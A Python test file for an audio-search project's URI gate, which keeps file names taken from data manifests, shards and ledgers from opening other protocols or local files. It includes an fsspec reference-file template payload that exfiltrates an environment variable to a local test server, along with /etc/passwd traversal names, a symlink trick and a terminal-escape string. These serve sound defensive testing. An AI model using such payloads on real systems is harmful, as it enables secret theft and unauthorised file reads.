"""The gate: what a name out of data may have opened, and that nothing opens one beside it."""

from __future__ import annotations

import ast
import http.server
import io
import json
import tarfile
import threading
from collections.abc import Iterator
from functools import partial
from pathlib import Path
from typing import Any

import fsspec
import pyarrow as pa
import pyarrow.parquet
import pytest
from click.testing import CliRunner
from fsspec.registry import known_implementations

from clara_search.commands.db import verify_all as verify
from clara_search.commands.main import main
from clara_search.datasets.labelled import read_clips
from clara_search.datasets.readers import read_manifest
from clara_search.errors import FormatError
from clara_search.files.gate import PROTOCOLS, ForeignUri, RefusedUri, admit, admit_entry, child_of
from clara_search.files.paths import is_remote, read_bytes, stat_file
from clara_search.store.database import Database
from indexer.ledger.failures import failures, stored_ledger
from indexer.pipeline import index
from indexer.sources.listing import list_items
from tests.helpers import ROOT, ToneEncoder, write_tone

SECRET = "AKIA-do-not-send-me"


class Server:
    """A web server of this machine that notes who asks for what, and answers from `folder`."""

    def __init__(self, folder: Path) -> None:
        requests: list[str] = []

        class Noting(http.server.SimpleHTTPRequestHandler):
            def log_message(self, *_: object) -> None:
                requests.append(self.requestline)

        self.requests = requests
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), partial(Noting, directory=str(folder)))
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def server(tmp_path: Path) -> Iterator[Server]:
    folder = tmp_path / "served"
    folder.mkdir()
    server = Server(folder)
    yield server
    server.server.shutdown()
    server.server.server_close()


@pytest.fixture
def reference(server: Server, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """A URL whose reading sends an environment variable to the server."""
    monkeypatch.setenv("GATE_SECRET", SECRET)
    leak = server.url + "/leak?k={{u.__globals__[os].environ[GATE_SECRET]}}"
    refs = {"version": 1, "templates": {"u": "{{x}}"}, "refs": {"a.wav": [leak]}}
    (tmp_path / "served" / "leak.json").write_text(json.dumps(refs))
    return f"reference://a.wav::{server.url}/leak.json"


def test_the_reference_file_is_one_that_harms_whoever_opens_it(reference: str, server: Server) -> None:
    """Otherwise the tests below could not fail."""
    with pytest.raises((FormatError, OSError)):
        read_bytes(reference)
    assert any("leak.json" in request for request in server.requests)


@pytest.mark.parametrize("protocol", sorted({*known_implementations, "c", "nonsense", ""} - PROTOCOLS - {"tar"}))
def test_no_other_protocol_is_opened_for_data(protocol: str) -> None:
    with pytest.raises(RefusedUri):
        admit(ForeignUri(f"{protocol}://host/a.wav", "/m.csv"))
    with pytest.raises(RefusedUri):
        admit(ForeignUri(f"{protocol}://a.wav::https://host/a.zip", "/m.csv"))
    with pytest.raises(RefusedUri):
        admit(ForeignUri(f"tar://a.wav::{protocol}://host/a.tar", "/m.csv"))


@pytest.mark.parametrize("protocol", sorted(PROTOCOLS))
def test_urls_of_the_web_and_of_stores_are_opened_but_no_chains_of_them(protocol: str) -> None:
    url = f"{protocol}://bucket/a b.wav"
    assert admit(ForeignUri(url, "/m.csv")) == admit(ForeignUri(url)) == url
    assert admit(ForeignUri(f"tar://k/a.wav::{url}")) == f"tar://k/a.wav::{url}"
    nested = "tar://a::" * 5000
    for chain in (
        f"{nested}{url}",
        f"tar://a.wav::tar://b.tar::{url}",
        f"{url}::{url}",
        f"tar://a.wav::{url}::{url}",
        f"tar://a.wav::tar://b.tar::{url}::file:///etc/x",
    ):
        with pytest.raises(RefusedUri):
            admit(ForeignUri(chain, "/m.csv"))


@pytest.mark.parametrize(
    ("name", "base", "expected"),
    [
        ("a.wav", "/data/m.csv", "/data/a.wav"),
        ("../b/a.wav", "/data/m.csv", "/b/a.wav"),
        ("/x/a.wav", "/data/m.csv", "/x/a.wav"),
        ("/x/a::b.wav", None, "/x/a::b.wav"),
        ("simplecache::a.wav", "/data/m.csv", "/data/simplecache::a.wav"),
        ("tar://a.wav::s.tar", "/data/m.csv", "tar://a.wav::/data/s.tar"),
        ("in/a.wav", "s3://bucket/d/m.csv", "s3://bucket/d/in/a.wav"),
        ("a.wav", "https://h/d/m.csv?key=a/b", "https://h/d/a.wav"),
        ("tar://a.wav::s.tar", "s3://bucket/d/m.csv", "tar://a.wav::s3://bucket/d/s.tar"),
    ],
)
def test_paths_are_relative_to_the_file_that_names_them(name: str, base: str | None, expected: str) -> None:
    assert admit(ForeignUri(name, base)) == expected


@pytest.mark.parametrize(
    ("name", "base"),
    [
        ("a.wav", None),
        ("", None),
        ("a\0.wav", "/m.csv"),
        ("/etc/passwd", "https://host/m.csv"),
        ("tar://a.wav::/home/me/s.tar", "https://host/m.csv"),
        ("file:///etc/passwd", "/m.csv"),
        ("a.wav::file:///etc/passwd", "https://host/m.csv"),
        ("a.wav", "zip://m.csv::https://host/a.zip"),
    ],
)
def test_a_path_of_this_machine_needs_a_base_on_it(name: str, base: str | None) -> None:
    with pytest.raises(RefusedUri):
        admit(ForeignUri(name, base))


def test_a_store_that_was_typed_lists_files_in_its_folders_and_nothing_else() -> None:
    assert admit_entry("memory://x", "a.wav") == "memory://x/a.wav"
    assert admit_entry("zip://in::http://h/a.zip", "a.wav") == "zip://in/a.wav::http://h/a.zip"
    assert admit_entry("/data", "a::b.wav") == "/data/a::b.wav"
    for name in ("a::http://h/x", "../a.wav", "b/../../a.wav", "a\0.wav"):
        with pytest.raises(RefusedUri):
            admit_entry("memory://x", name)


@pytest.mark.parametrize("name", ["../a.arrow", "/etc/passwd", "a/b.arrow", "..", ".", "", 1, None, "a\0"])
def test_the_state_of_a_data_set_names_files_beside_it_only(name: object, tmp_path: Path) -> None:
    with pytest.raises(RefusedUri):
        child_of(tmp_path, name)
    folder = tmp_path / "set"
    folder.mkdir()
    for file, content in (
        ("state.json", {"_data_files": [{"filename": name}]}),
        ("dataset_dict.json", {"splits": [name]}),
    ):
        (folder / file).write_text(json.dumps(content))
        with pytest.raises(FormatError):
            list(list_items([folder]))
        (folder / file).unlink()


def test_a_message_shows_no_control_characters_and_no_endless_name() -> None:
    with pytest.raises(RefusedUri) as refused:
        admit(ForeignUri("ssh://\x1b]52;c;AAAA\x07\n\u202e" + "x" * 10_000))
    assert str(refused.value).isprintable()
    assert len(str(refused.value)) < 500


def manifests(folder: Path, name: str) -> list[Path]:
    """Manifests of each format that list good.wav and `name`."""
    folder.mkdir(parents=True, exist_ok=True)
    write_tone(folder / "good.wav", 440)
    names = [{"path": "good.wav"}, {"path": name}]
    (folder / "m.csv").write_text(f'path\ngood.wav\n"{name}"\n')
    (folder / "m.jsonl").write_text("".join(json.dumps(row) + "\n" for row in names))
    (folder / "url.jsonl").write_text("".join(json.dumps({"url": row["path"]}) + "\n" for row in names))
    pa.parquet.write_table(pa.Table.from_pylist(names), folder / "m.parquet")
    audio = [{"audio": {"bytes": None, **row}} for row in names]
    saved = folder / "saved"
    saved.mkdir(exist_ok=True)
    table = pa.Table.from_pylist([audio[1]])
    with pa.ipc.new_stream(saved / "data.arrow", table.schema) as stream:
        stream.write_table(table)
    (saved / "state.json").write_text(json.dumps({"_data_files": [{"filename": "data.arrow"}]}))
    return [folder / "m.csv", folder / "m.jsonl", folder / "url.jsonl", folder / "m.parquet", saved]


def test_rows_that_name_other_protocols_are_failures_and_the_others_are_indexed(
    reference: str, server: Server, tmp_path: Path
) -> None:
    for name in (reference, f"tar://a.wav::{reference}", reference.replace("reference:", "REFERENCE:")):
        for number, manifest in enumerate(manifests(tmp_path / "in", name)):
            database = Database(tmp_path / f"db{abs(hash(name))}-{number}", create=True)
            summary = index([manifest], database, ToneEncoder())
            good = 0 if manifest.is_dir() else 1
            assert (summary.indexed, summary.failed, summary.rows) == (good, 1, good)
            (failure,) = failures(database)
            assert "opened only where" in failure["reason"]
            assert SECRET not in failure["reason"]
    assert server.requests == []


def test_shards_cannot_say_where_their_recordings_lie(reference: str, server: Server, tmp_path: Path) -> None:
    metadata = json.dumps({"path": reference, "url": reference, "uri": reference, "text": "a"}).encode()
    with tarfile.open(tmp_path / "s.tar", "w") as shard:
        for name, content in (("a.json", metadata), ("a.wav", write_tone(tmp_path / "a.wav", 440).read_bytes())):
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            shard.addfile(entry, io.BytesIO(content))
    database = Database(tmp_path / "db", create=True)
    assert index([tmp_path / "s.tar"], database, ToneEncoder()).indexed == 1
    assert server.requests == []


def table_naming(uris: list[str], database: Database, folder: Path) -> None:
    """Index a recording, and have the table call it `uris`."""
    for number in range(len(uris)):
        write_tone(folder / f"{number}.wav", 300)
    index([folder], database, ToneEncoder())
    table = database.table()
    rows = table.scan(table.schema.names)
    table.upsert(rows.set_column(rows.schema.get_field_index("uri"), rows.schema.field("uri"), pa.array(uris)))


def test_verify_opens_no_url_of_a_table_unasked_and_never_another_protocol(
    reference: str, server: Server, database: Database, tmp_path: Path
) -> None:
    write_tone(tmp_path / "served" / "x.wav", 300)
    allowed = [f"{server.url}/x.wav", f"tar://x.wav::{server.url}/x.tar"]
    table_naming([reference, "relative.wav", *allowed], database, tmp_path / "in")

    def sample(**options: Any) -> str:
        (found,) = (
            one for one in verify(database, "corpus", encoder=ToneEncoder(), **options) if one.check == "sample"
        )
        assert found.ok
        return found.detail

    said = sample()
    assert "0 of 4 rows embedded again" in said
    assert "2 at URLs not opened (`fetch` opens them)" in said
    assert "2 with URIs that a table may not name" in said
    assert server.requests == []
    said = sample(fetch=True)
    assert "1 of 4 rows embedded again" in said
    assert "1 unreachable" in said
    assert {request.split()[1] for request in server.requests} == {"/x.wav", "/x.tar"}


def test_verify_does_not_wait_for_a_pipe_that_a_table_names(database: Database, tmp_path: Path) -> None:
    import os

    os.mkfifo(tmp_path / "pipe.wav")
    table_naming([str(tmp_path / "pipe.wav")], database, tmp_path / "in")
    details = {one.check: one.detail for one in verify(database, "corpus", encoder=ToneEncoder())}
    assert "1 unreachable" in details["sample"]


def test_the_command_verify_fetches_only_where_it_is_told_to(
    server: Server, database: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("clara_search.store.verify.load_encoder", lambda *_, **__: ToneEncoder())
    write_tone(tmp_path / "served" / "x.wav", 300)
    table_naming([f"{server.url}/x.wav"], database, tmp_path / "in")
    arguments = ["db", "verify", "--db", str(database.path)]
    assert "1 at URLs not opened" in CliRunner().invoke(main, arguments).stdout
    assert server.requests == []
    assert "1 of 1 rows embedded again" in CliRunner().invoke(main, [*arguments, "--fetch"]).stdout


def test_sources_that_a_ledger_names_pass_the_gate_and_the_others_are_tried_again(
    reference: str, server: Server, database: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("clara_search.models.registry.load_encoder", lambda *_, **__: ToneEncoder())
    for name in ("a", "b"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "bad.wav").write_bytes(b"")
    index([tmp_path / "a", tmp_path / "b"], database, ToneEncoder())
    ledger = stored_ledger(database, "corpus")
    assert ledger is not None
    rows = ledger.scan(ledger.schema.names)
    hostile = f"{reference}/m.csv"
    sources = [hostile if source.endswith("/a") else source for source in rows["source"].to_pylist()]
    ledger.upsert(
        rows.set_column(rows.schema.get_field_index("source"), rows.schema.field("source"), pa.array(sources))
    )
    write_tone(tmp_path / "b" / "bad.wav", 440)

    arguments = ["index", "--retry-failed", "--db", str(database.path)]
    for more, code in ([], 0), (["--prune"], 1):  # at last nothing but what is refused
        result = CliRunner().invoke(main, [*arguments, *more])
        assert result.exit_code == code, result.output
        assert "1 failed" in result.stdout
        assert database.table().count() == 1
        reasons = {one["uri"]: one["reason"] for one in failures(database)}
        assert "opened only where it is typed" in reasons[f"{hostile}#L0"]
        assert str(tmp_path / "b" / "bad.wav") not in reasons
    assert server.requests == []


def test_a_fetched_manifest_names_no_files_of_this_machine(
    server: Server, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = write_tone(tmp_path / "secret.wav", 440)
    write_tone(tmp_path / "served" / "near.wav", 440)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "served" / "m.csv").write_text(f"path,text\nnear.wav,a\n{secret},b\nfile://{secret},c\nsecret.wav,d\n")
    database = Database(tmp_path / "db", create=True)
    summary = index([f"{server.url}/m.csv"], database, ToneEncoder())
    assert (summary.indexed, summary.failed) == (1, 3)
    problems: list[FormatError] = []
    admitted = [f"{server.url}/near.wav", f"{server.url}/secret.wav"]
    assert [example.audio for example in read_manifest(f"{server.url}/m.csv", problems.append)] == admitted
    assert [clip.audio for clip in read_clips(f"{server.url}/m.csv", problems.append)] == admitted
    assert len(problems) == 4


def test_a_recording_in_a_shard_is_read_by_its_name(tmp_path: Path) -> None:
    content = write_tone(tmp_path / "a.wav", 440).read_bytes()
    with tarfile.open(tmp_path / "s.tar", "w") as shard:
        shard.add(tmp_path / "a.wav", "d/A.b.WAV")
        link = tarfile.TarInfo("d/link.wav")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        shard.addfile(link)
    uri = f"tar://d/A.b.wav::{tmp_path}/s.tar"
    assert read_bytes(uri) == content
    assert not is_remote(uri)
    assert is_remote("tar://a.wav::http://h/s.tar")
    assert stat_file(uri).size == (tmp_path / "s.tar").stat().st_size
    for gone in ("d/link.wav", "d/none.wav"):
        with pytest.raises(FileNotFoundError):
            read_bytes(f"tar://{gone}::{tmp_path}/s.tar")
    (tmp_path / "m.jsonl").write_text(json.dumps({"path": "tar://d/A.b.wav::s.tar"}) + "\n")
    assert index([tmp_path / "m.jsonl"], tmp_path / "db", ToneEncoder()).indexed == 1


def test_what_the_user_types_is_opened_by_any_protocol(tmp_path: Path) -> None:
    filesystem = fsspec.filesystem("memory")
    filesystem.pipe("/gate/in/a.wav", write_tone(tmp_path / "a.wav", 440).read_bytes())
    filesystem.pipe("/gate/b.wav", write_tone(tmp_path / "b.wav", 550).read_bytes())
    filesystem.pipe("/gate/m.csv", b"path\nb.wav\nmemory://gate/in/a.wav\n")
    try:
        summary = index(["memory://gate/in", "memory://gate/m.csv"], tmp_path / "db", ToneEncoder())
        assert (summary.indexed, summary.failed) == (2, 1)
    finally:
        filesystem.rm("/gate", recursive=True)


OPENS = {
    *(
        "fsspec.open",
        "fsspec.open_files",
        "fsspec.filesystem",
        "fsspec.core.url_to_fs",
        "url_to_fs",
        "get_fs_token_paths",
    ),
    *(
        f"clara_search.files.paths.{name}"
        for name in (
            "open_binary",
            "open_source",
            "open_cached_copy",
            "read_bytes",
            "stat_file",
            "is_missing",
            "list_folder",
            "resolve_filesystem",
        )
    ),
    *("av.open", "torch.load", "urlopen", "requests.get", "httpx.get"),
    *("from_pretrained", "snapshot_download", "hf_hub_download", "load_dataset", "lancedb.connect"),
}
"""Calls that may open whatever a name says: by the whole name of what is called, or by its last part."""

ALLOWED = {
    # Here a name is opened that was typed, or that the gate admitted before.
    "clara_search/files/paths.py": {"fsspec.open", "fsspec.core.url_to_fs", "url_to_fs"},
    "clara_search/files/shards.py": {  # sources; Corpus compares what its cache names
        "files.paths.open_binary",
        "files.paths.open_cached_copy",
        "files.paths.open_source",
    },
    "clara_search/files/tables.py": {"files.paths.open_source"},  # sources
    "clara_search/datasets/recordings.py": {"files.paths.read_bytes"},  # `locate_recording` or Corpus admitted it
    "clara_search/store/verify.py": {"files.paths.read_bytes", "files.paths.stat_file"},  # admitted a few lines above
    "indexer/decode/prefetch.py": {"files.paths.stat_file"},  # items: their uri was admitted by what listed them
    "indexer/sources/formats/manifest.py": {"files.paths.stat_file"},  # a source
    "indexer/decode/read.py": {"files.paths.read_bytes"},  # items, as above
    "indexer/sources/formats/webdataset.py": {"files.paths.stat_file"},  # a source
    "indexer/sources/formats/folder.py": {"files.paths.list_folder"},  # sources, and folders in them
    "indexer/sources/pattern.py": {"files.paths.list_folder"},  # as above
    "indexer/write/prune.py": {"files.paths.is_missing"},  # in a source, or a source
    "indexer/write/scope.py": {"files.paths.list_folder"},  # sources
    "indexer/write/writer.py": {"files.paths.is_missing"},  # items
    "clara_search/store/connection.py": {"lancedb.connect"},  # the database that was typed
    # Here a file of a folder of this machine, and never the network.
    "clara_search/audio/decode.py": {"av.open"},  # bytes in memory
    "clara_search/models/clap_weights.py": {"from_pretrained", "torch.load"},
    "clara_search/models/clap.py": {"from_pretrained"},
    "clara_search/models/clara/convert.py": {"torch.load"},
    "trainer/embeddings/file_hashes.py": {"files.paths.stat_file"},  # clips: `locate_recording` admitted them
    "trainer/runtime/checkpoints.py": {"torch.load"},
    "trainer/pretraining/run.py": {"torch.load"},
    "trainer/data/teachers.py": {"from_pretrained"},
    # Here the hub.
    "clara_search/models/hub.py": {"snapshot_download"},
}


def opening_calls(path: Path) -> set[str]:
    """Return which of OPENS the file at `path` calls, whatever they were imported as or hang on."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    renamed = {
        name.asname or name.name: f"{node.module}.{name.name}"
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom)
        for name in node.names
    }
    renamed |= {
        name.asname: name.name
        for node in ast.walk(tree)
        if isinstance(node, ast.Import)
        for name in node.names
        if name.asname
    }
    found = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            called = ast.unparse(node.func)
            first, dot, rest = called.partition(".")
            called = f"{renamed.get(first, first)}{dot}{rest}"
            found |= {name for name in OPENS if called == name or (not name.count(".") and called.endswith(f".{name}"))}
    return {name.removeprefix("clara_search.") for name in found}


def test_nothing_beside_the_gate_opens_what_may_be_a_name_out_of_data() -> None:
    """A new call has to be looked at: does its name come from the user, from the gate, or from data?"""
    found = {
        str(path.relative_to(ROOT)): calls
        for package in ("clara_search", "indexer", "trainer")
        for path in sorted((ROOT / package).rglob("*.py"))
        if (calls := opening_calls(path))
    }
    assert found == ALLOWED


def test_the_search_for_opening_calls_sees_through_other_names(tmp_path: Path) -> None:
    path = tmp_path / "a.py"
    path.write_text("import fsspec as f\nfrom av import open as o\nf.open(1)\no(2)\nx.from_pretrained(3)\nopen(4)\n")
    assert opening_calls(path) == {"fsspec.open", "av.open", "from_pretrained"}
